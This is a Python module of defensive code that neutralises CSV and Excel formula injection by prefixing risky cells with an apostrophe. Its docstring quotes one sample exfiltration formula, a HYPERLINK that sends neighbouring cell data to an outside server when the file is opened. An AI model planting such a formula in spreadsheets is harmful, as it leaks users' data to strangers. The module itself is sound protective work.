"""Cells the platform writes into CSV and Excel files, made safe to open in a spreadsheet.

A cell that begins with = + - @ (or a tab or carriage return, or their full-width forms, which
Chinese input methods produce) is read by Excel, WPS and LibreOffice as a formula:
`=HYPERLINK("http://…?d="&A1,"点击")` in an uploaded file's cell, copied unchanged into an error
report, sends the neighbouring cells to a stranger's server when the report is opened (CSV or
formula injection). Every CSV and xlsx writer passes its cells through `safe_cell` (or writes
through `SafeCsvWriter` / `append_row`), which prefixes such text with an apostrophe so it is shown
as text. Numbers (and text that is only a plain number, such as "-3" or "+1.5") are left alone.

openpyxl stores any str beginning with "=" as a formula, so the rule matters for xlsx as much as CSV.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

# What a spreadsheet may take for the start of a formula (OWASP's list, plus the full-width forms).
FORMULA_START = frozenset("=+-@\t\r\n＝＋－＠")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """The value to write into a cell: text that a spreadsheet would run as a formula gets a leading
    apostrophe; anything else (numbers, dates, None, ordinary text) is returned unchanged."""
    if not isinstance(value, str) or not value:
        return value
    first = value.lstrip(" ")[:1]
    if first not in FORMULA_START:
        return value
    if _PLAIN_NUMBER.fullmatch(value.strip()):
        return value
    return "'" + value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


class SafeCsvWriter:
    """csv.writer whose every cell goes through `safe_cell`."""

    def __init__(self, fh: Any, *args: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(fh, *args, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """openpyxl's `sheet.append`, every cell through `safe_cell`."""
    sheet.append(safe_row(values))
